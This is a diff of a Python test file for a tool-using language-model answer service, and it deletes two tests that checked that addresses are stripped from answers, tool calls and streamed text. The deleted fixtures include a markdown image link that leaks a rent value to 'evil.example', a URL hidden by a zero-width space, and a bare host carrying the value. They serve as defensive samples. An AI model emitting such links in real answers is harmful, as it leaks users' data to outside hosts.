@@ -1,6 +1,5 @@
 """Answers of a language model: it reads with tools, and what it cites is verified before it is stored."""
 
-import asyncio
 import json
 import time
 from datetime import timedelta
@@ -10,12 +9,9 @@ import pytest
 from django.utils import timezone
 
 from audit.models import AuditEntry
-from core import redis_client
 from corpuses.annotations.models import Annotation, Label
 from corpuses.conversations import runner
-from corpuses.conversations.live import log_name
 from corpuses.conversations.models import Message, ToolCall
-from corpuses.conversations.writer import Writer
 from corpuses.providers.models import LlmBudget, LlmUsage
 from documents.tests.factories import parsed_document
 from tests.conversations.conftest import LAW, QUESTION, RENT, add_document, ended, new_corpus
@@ -365,41 +361,3 @@ def test_questions_and_answers_that_a_model_gets_alternate(api, conversation, do
     turns = [(turn["role"], turn["content"]) for turn in model.requests[0]["messages"] if turn["role"] != "system"]
     assert [role for role, _ in turns] == ["user", "assistant", "user"]
     assert [text for role, text in turns if role == "user"] == ["First?", "Fourth?"]
-
-
-WITH_ADDRESSES = "Look at ![rent](//evil.example/?rent=1200) or h\u200bttps://evil.example/1 and evil.example?1200 now."
-WITHOUT = "Look at ![rent]((address removed)) or (address removed) and (address removed) now."
-
-
-def test_addresses_are_removed_from_answers_and_calls(api, conversation, document, model):
-    made = ("find", {"document": str(document.pk), "words": "Ohio //evil.example/1200"})
-    answer(api, conversation, model, calls(made), says(WITH_ADDRESSES))
-    shown = messages(api, conversation)[1]
-    assert shown["text"] == WITHOUT
-    assert shown["tool_calls"][0]["arguments"] == {"document": str(document.pk), "words": "Ohio (address removed)"}
-    assert "evil" not in json.dumps(shown)
-    assert "//evil.example/1200" in json.dumps(model.requests[-1])  # the tool was called as the model wrote it
-
-
-@pytest.mark.parametrize("size", [1, 7, 40])
-def test_addresses_are_removed_from_words_that_arrive(api, conversation, model, size):
-    message = answer(api, conversation, model, says("NOT FOUND"))
-
-    async def call(function):
-        return function()
-
-    async def write():
-        async with Writer(message, call) as writer:
-            text = f"{WITH_ADDRESSES} "
-            for start in range(0, len(text), size):
-                writer.add(text[start : start + size])
-                await asyncio.sleep(0.055 if start % 8 == 0 else 0)
-            await asyncio.sleep(0.2)
-
-    asyncio.run(write())
-    live = ""
-    for _, fields in redis_client.client().xrange(log_name(message.conversation_id)):
-        if fields["event"] == "text":
-            event = json.loads(fields["data"])
-            live = live[: event["offset"]] + event["text"]
-    assert live == f"{WITHOUT} "
